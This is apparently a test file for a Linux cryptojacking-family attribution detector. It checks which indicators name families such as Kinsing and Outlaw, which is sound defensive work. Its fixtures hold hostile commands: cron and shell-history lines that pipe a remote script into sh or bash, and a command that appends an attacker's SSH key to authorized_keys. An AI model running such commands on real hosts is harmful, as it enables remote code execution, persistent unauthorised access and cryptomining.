/** Who it was: told from two independent signs or one that is a family's alone, and never from what others use. */
import { describe, expect, test } from 'bun:test';
import { connection, exe, factSet, listener, ownedBy, processFact, text } from '../detect/facts.fixture.ts';
import { entryFact, fileFact, scriptFact } from '../detect/persistence/entry.fixture.ts';
import type { Fact } from '../model/fact.ts';
import type { EventDetail, LogEvent } from '../model/facts/event.ts';
import { attributeFamilies, type FamilyVerdict, FamilyWatch } from './family.ts';

const of = (...facts: readonly Fact[]): FamilyVerdict => attributeFamilies(factSet(...facts));
const names = ({ families }: FamilyVerdict): readonly string[] => families.map(({ family }) => family).sort();
const leads = (verdict: FamilyVerdict): readonly string[] => verdict.leads.map(({ family }) => family).sort();
const tools = (verdict: FamilyVerdict): readonly string[] => verdict.tools.map(({ family }) => family).sort();
const nothing: FamilyVerdict = { families: [], tools: [], leads: [] };

const cron = (line: string, at: string, number = 1): Fact =>
  entryFact(line.split(' ').slice(5).join(' '), {
    at,
    line: number,
    text: text(line),
    mechanism: 'cron-user',
  });
const key = (comment: string): Fact =>
  entryFact('', {
    mechanism: 'ssh-authorized-key',
    language: 'none',
    at: '/root/.ssh/authorized_keys',
    line: 1,
    text: text(`ssh-rsa AAAA ${comment}`),
  });
const running = (pid: number, name: string, path: string): Fact =>
  processFact({ pid, name: text(name), argv: [text(name)], exe: exe(path) });

let second = 0;
function event(line: string, detail: EventDetail, at = '/var/log/messages'): LogEvent {
  second += 1;
  return {
    kind: 'event',
    source: { source: text(at), line: second },
    us: 1_700_000_000_000_000 + second * 1e6,
    precision: 'second',
    certain: true,
    host: text('h'),
    text: text(line),
    ...detail,
  };
}
const inLogs = (...events: readonly LogEvent[]): FamilyVerdict => attributeFamilies(factSet(), events);
const command = (line: string): LogEvent =>
  event(
    line,
    { what: 'command', origin: 'history', account: text('root'), command: text(line) },
    '/root/.bash_history',
  );
const message = (line: string): LogEvent => event(line, { what: 'message', program: text('redis') });

describe('a clean host', () => {
  test('names no family', () => {
    const verdict = of(
      cron('17 * * * * cd / && run-parts --report /etc/cron.hourly', '/etc/crontab'),
      key('ada@laptop'),
      running(300, 'nginx', '/usr/sbin/nginx'),
      running(301, 'watchdogd', '/usr/sbin/watchdogd'),
      fileFact('/usr/lib/x86_64-linux-gnu/libsystemd.so'),
      fileFact('/opt/mine/kinsing-report'),
      listener([300], '0.0.0.0', 80),
    );
    expect(verdict).toEqual(nothing);
  });

  test('a kernel thread and files of packages carry names without being signs', () => {
    expect(of(processFact({ name: text('bioset'), kernelThread: true, argv: [] }))).toEqual(nothing);
    const library = '/lib/libudev.so';
    expect(of(fileFact(library), ownedBy(library, 'libudev-dev'))).toEqual(nothing);
    expect(leads(of(fileFact(library)))).toEqual(['xorddos']);
  });
});

/** A typical host of each family. */
const typical: Readonly<Record<string, readonly Fact[]>> = {
  kinsing: [
    cron('* * * * * wget -q -O - http://192.0.2.7/unk.sh | sh', '/var/spool/cron/root'),
    running(400, 'kinsing', '/var/tmp/a'),
    running(401, 'kdevtmpfsi', '/tmp/kdevtmpfsi'),
  ],
  '8220': [fileFact('/etc/cron.d/pwnrig')],
  teamtnt: [
    entryFact('', { mechanism: 'account-uid-0', user: text('monerodaemon'), at: '/etc/passwd', line: 30 }),
    fileFact('/usr/bin/tntrecht'),
    fileFact('/usr/bin/tmate'),
  ],
  watchdog: [
    running(400, 'networkservice', '/etc/x'),
    fileFact('/etc/sysguard'),
    fileFact('/usr/bin/kswaped', { size: 1, flags: ['immutable'] }),
  ],
  kerberods: [key('root@u17')],
  outlaw: [
    cron('5 6 * * 0 /root/.configrc7/a/upd>/dev/null 2>&1', '/var/spool/cron/root'),
    key('mdrfckr'),
    running(400, 'kswapd0', '/root/.configrc7/a/kswapd00'),
  ],
  sysrv: [running(400, 'kthreaddk', '/tmp/x3a9'), connection([400], '194.145.227.21', 5443)],
  ddg: [fileFact('/root/.ddg/4004.db')],
  systemdminer: [fileFact('/etc/cron.d/0systemd-service')],
  skidmap: [fileFact('/usr/bin/pamdicks'), fileFact('/usr/bin/rctlcli')],
  perfctl: [fileFact('/tmp/.xdiag', { type: 'directory' }), fileFact('/bin/perfcc')],
  billgates: [fileFact('/tmp/gates.lod')],
  redtail: [
    fileFact('/var/tmp/.redtail'),
    running(400, '.redtail', '/x'),
    fileFact('/dev/shm/redtail.x86_64'),
  ],
  migo: [fileFact('/tmp/.migo')],
  diicot: [fileFact('/tmp/.diicot/Opera')],
  qubitstrike: [running(400, 'python-dev', '/usr/share/.LQvKibDTq4/python-dev')],
  'pg-mem': [fileFact('/var/lib/postgresql/data/pg_core')],
  teampcp: [fileFact('/etc/systemd/system/pcpcat.service')],
  rondodox: [fileFact('/etc/rondo/rondo')],
  prometei: [fileFact('/usr/sbin/uplugplay')],
  sansar: [fileFact('/lib/modules/6.1.0/updates/dkms/acpi_thermal_mgr.ko')],
};

describe('a typical host', () => {
  for (const [family, facts] of Object.entries(typical)) {
    test(`of ${family} is told as that and no other`, () => {
      const verdict = of(...facts);
      expect(names(verdict)).toEqual([family]);
      const [told] = verdict.families;
      expect(told?.confidence ?? 0).toBeGreaterThan(60);
      expect(told?.confidence ?? 100).toBeLessThan(100);
      expect(told?.rivals).toEqual([]);
      for (const { evidence, source } of told?.met ?? []) {
        expect(evidence.length).toBeGreaterThan(0);
        expect(source.length).toBeGreaterThan(2);
      }
    });
  }

  test('has its lines with it, and more signs make it more certain', () => {
    const one = of(key('mdrfckr')).families[0];
    expect(one?.met[0]).toMatchObject({
      kind: 'ssh-key-comment',
      value: 'mdrfckr',
      evidence: [{ source: '/root/.ssh/authorized_keys', line: 1, text: 'ssh-rsa AAAA mdrfckr' }],
    });
    const all = of(...(typical['outlaw'] ?? [])).families[0];
    expect(all?.confidence ?? 0).toBeGreaterThan(one?.confidence ?? 100);
  });
});

describe('what others use too', () => {
  test.each([
    ['the miner name that everybody copies', [running(400, 'kdevtmpfsi', '/tmp/kdevtmpfsi')]],
    ['a common miner', [running(400, 'xmrig', '/opt/xmrig/xmrig')]],
    [
      'a name between kernel threads',
      [running(400, 'kworkerds', '/tmp/kworkerds'), fileFact('/usr/bin/kauditd0')],
    ],
    ['a folder of many', [fileFact('/root/.configrc/x'), running(400, 'kswapd0', '/root/.configrc/x')]],
    ['a port', [listener([400], '0.0.0.0', 1234)]],
  ])('%s alone is nothing', (_, facts) => {
    expect(of(...facts)).toEqual(nothing);
  });

  test('planted files of one byte are decoys, not Skidmap, and not WatchDog by themselves', () => {
    const planted = ['pamdicks', 'kswaped', 'rctlcli'].flatMap((name) => [
      fileFact(`/usr/bin/${name}`, { size: 1, flags: ['immutable'], format: 'other' }),
      cron(`* * * * * /usr/bin/${name}`, '/etc/cron.d/x'),
    ]);
    expect(of(...planted)).toEqual(nothing);
    expect(names(of(...planted, fileFact('/usr/bin/ip6network'), fileFact('/usr/bin/pamdicks')))).toEqual([]);
  });

  test('one typical sign, or one program by name and file, is a lead and no more', () => {
    expect(of(running(400, 'tsm64', '/var/tmp/tsm64')).families).toEqual([]);
    expect(leads(of(running(400, 'tsm64', '/var/tmp/tsm64')))).toEqual(['outlaw']);
  });

  test('two independent signs in one line are one line, which anybody writes', () => {
    const line = '* * * * * /etc/x/kinsing http://192.0.2.7/unk.sh';
    expect(leads(of(cron(line, '/etc/cron.d/x')))).toEqual(['kinsing']);
    expect(names(of(cron(line, '/etc/cron.d/x', 1), cron(line, '/etc/cron.d/x', 2)))).toEqual(['kinsing']);
  });

  test('a public rootkit is a tool and no gang', () => {
    const verdict = of(
      fileFact('/lib/modules/6.1.0/diamorphine.ko'),
      fileFact('/usr/local/lib/libprocesshider.so'),
    );
    expect(names(verdict)).toEqual([]);
    expect(tools(verdict)).toEqual(['diamorphine', 'libprocesshider']);
  });

  test('an ordinary name in the folders of packages is none', () => {
    expect(of(cron('0 4 * * * /usr/bin/wget -i /usr/share/x/pty3', '/etc/crontab'))).toEqual(nothing);
  });
});

describe('two gangs on one host', () => {
  test('are both told, each as the rival of the other', () => {
    const verdict = of(...(typical['kinsing'] ?? []), ...(typical['outlaw'] ?? []));
    expect(names(verdict)).toEqual(['kinsing', 'outlaw']);
    expect(verdict.families.map(({ family, rivals }) => [family, rivals]).sort()).toEqual([
      ['kinsing', ['outlaw']],
      ['outlaw', ['kinsing']],
    ]);
  });

  test('one that only removes the other is alone', () => {
    const killer = scriptFact(
      'pkill -f kinsing\nrm -rf /tmp/kinsing /var/tmp/kinsing\nps aux | grep /etc/kinsing | xargs kill -9',
      { at: '/tmp/.X2c4-unix/.rsync/c/go' },
    );
    const verdict = of(killer, key('mdrfckr'));
    expect(names(verdict)).toEqual(['outlaw']);
    expect(leads(verdict)).toEqual([]);
  });
});

describe('lists and searches', () => {
  test('a script that names many families is a list', () => {
    const list = '/tmp/kinsing\n/tmp/.X2c4-unix\n/etc/cron.d/pwnrig\n/usr/bin/pamdicks\nmdrfckr';
    expect(of(scriptFact(list, { at: '/usr/local/bin/audit' }))).toEqual(nothing);
  });

  test('commands of an owner who looks and cleans are no signs', () => {
    expect(
      inLogs(
        command('grep -rn mdrfckr /home /root'),
        command('ls -la /tmp/.X2c4-unix'),
        command('rm -rf /root/.configrc5'),
        command('find / -name pamdicks; pkill kinsing'),
      ),
    ).toEqual(nothing);
  });
});

describe('logs', () => {
  test('commands and jobs of a gang name it', () => {
    const verdict = inLogs(
      command('cd ~ && chattr -ia .ssh; lockr -ia .ssh'),
      command('echo "ssh-rsa AAAA mdrfckr" >> .ssh/authorized_keys'),
    );
    expect(names(verdict)).toEqual(['outlaw']);
    const job = event('(root) CMD (/root/.configrc7/b/sync)', {
      what: 'job',
      scheduler: 'cron',
      account: text('root'),
      command: text('/root/.configrc7/b/sync'),
    });
    expect(leads(inLogs(job))).toEqual(['outlaw']);
  });

  test('the kernel names the process that it ended for memory', () => {
    const killed = event('Out of memory: Killed process 77 (kinsing) total-vm:2500000kB', {
      what: 'kernel',
      action: 'out-of-memory',
      subject: text('kinsing'),
      pid: 77,
    });
    expect(names(inLogs(killed, command('curl -s http://192.0.2.7/unk.sh | bash')))).toEqual(['kinsing']);
  });

  test('requests and names at a login are attempts, however many', () => {
    const scan = Array.from({ length: 50 }, () =>
      event('192.0.2.9 - - "GET /hello.world HTTP/1.1" 404 9 "-" "libredtail-http"', {
        what: 'request',
        server: 'nginx',
        client: text('192.0.2.9'),
        method: text('GET'),
        target: text('/?x=/tmp/.X2c4-unix+mdrfckr'),
        status: 404,
        size: 9,
        agent: text('libredtail-http'),
        referrer: text('-'),
        account: text('-'),
      }),
    );
    const login = event('Failed password for invalid user mdrfckr from 192.0.2.9 port 4 ssh2', {
      what: 'login',
      outcome: 'failed',
      service: 'sshd',
      account: text('mdrfckr'),
      known: false,
      from: text('192.0.2.9'),
      method: text('password'),
    });
    const verdict = inLogs(...scan, login);
    expect(names(verdict)).toEqual([]);
    for (const { confidence } of verdict.leads) expect(confidence).toBe(0);
  });

  test('messages alone do not decide: anybody writes those', () => {
    expect(names(inLogs(message('mdrfckr'), message('/tmp/.X2c4-unix'), message('kinsing /unk.sh')))).toEqual(
      [],
    );
  });

  test('an attempt does not crowd out the file that came after it', () => {
    const watch = new FamilyWatch();
    for (let at = 0; at < 100; at += 1) watch.seeEvent(message(`x ${at} mdrfckr`));
    watch.seeFact(key('mdrfckr'));
    expect(names(watch.conclude())).toEqual(['outlaw']);
  });
});

describe('hostile input', () => {
  test('huge texts, odd bytes and deep paths end, and say nothing that is not there', () => {
    const long = 'a'.repeat(2_000_000);
    const deep = `/${'x/'.repeat(100_000)}kinsing`;
    const odd = '\u0000\u202e/tmp/k\u0131nsing \ud800 mdrfc\u212ar ／tmp／kinsing /tmp/kinsin\u0067\u0301x';
    const verdict = of(
      scriptFact(`${long}\n${odd}`),
      entryFact(odd.replace('/tmp/kinsin\u0067\u0301x', ''), { line: 9 }),
      fileFact(deep),
      processFact({ argv: Array.from({ length: 20_000 }, () => text('-x')) }),
    );
    expect(names(verdict)).toEqual([]);
  });

  test('evidence is short and cuts no escape in two', () => {
    const noisy = `${'\u0001'.repeat(3000)} ssh-rsa AAAA mdrfckr ${'\u0001'.repeat(3000)}`;
    const entry = entryFact('', { mechanism: 'ssh-authorized-key', text: text(noisy), command: text('') });
    const [line] = of(entry).families[0]?.met[0]?.evidence ?? [];
    expect(line?.text.length ?? 0).toBeLessThan(410);
    expect(line?.text).toContain('mdrfckr');
    expect(line?.text).toMatch(/^(?:%01)*[ -~]*?(?:%01)*$/);
  });

  test('an endless log keeps a few lines of each sign', () => {
    const watch = new FamilyWatch();
    for (let at = 0; at < 20_000; at += 1) watch.seeEvent(command(`./kinsing ${at}; echo mdrfckr`));
    for (const { met } of watch.conclude().families)
      for (const { evidence, times } of met) expect([evidence.length, times]).toEqual([3, 20_000]);
  });
});

describe('other profiles', () => {
  const own = (platforms: readonly string[]): FamilyWatch =>
    new FamilyWatch([
      {
        id: 'one',
        class: 'family',
        name: { en: 'One', 'zh-CN': 'One' },
        platforms,
        sources: { s: 'a source' },
        indicators: { 'wallet-prefix': [{ value: '4AbCd', weight: 3, source: 's' }] },
      },
    ]);
  const trace: Fact = {
    kind: 'mining-trace',
    source: { source: text('/proc/9/cmdline') },
    pid: 9,
    startTicks: 1,
    found: { kind: 'wallet', coin: 'monero', address: '4AbCdEfGh', verified: true },
    text: text('-u 4AbCdEfGh'),
    place: 'command-line',
  };

  test('a wallet of theirs names them, on their platform', () => {
    for (const [platforms, told] of [
      [['linux'], ['one']],
      [['windows'], []],
    ] as const) {
      const watch = own(platforms);
      watch.seeFact(trace);
      expect(names(watch.conclude())).toEqual([...told]);
    }
  });

  test('two signs for which nobody read a source are a lead, with one that was read they decide', () => {
    for (const [unconfirmed, told] of [
      [true, []],
      [false, ['one']],
    ] as const) {
      const watch = new FamilyWatch([
        {
          id: 'one',
          class: 'family',
          name: { en: 'One', 'zh-CN': 'One' },
          platforms: ['linux'],
          sources: { s: 'a source' },
          indicators: {
            'file-name': [{ value: 'onefile', weight: 2, source: 's', unconfirmed: true }],
            'process-name': [{ value: 'oneproc', weight: 2, source: 's', unconfirmed }],
          },
        },
      ]);
      watch.seeFact(fileFact('/opt/onefile'));
      watch.seeFact(running(400, 'oneproc', '/opt/x'));
      expect(names(watch.conclude())).toEqual([...told]);
    }
  });
});
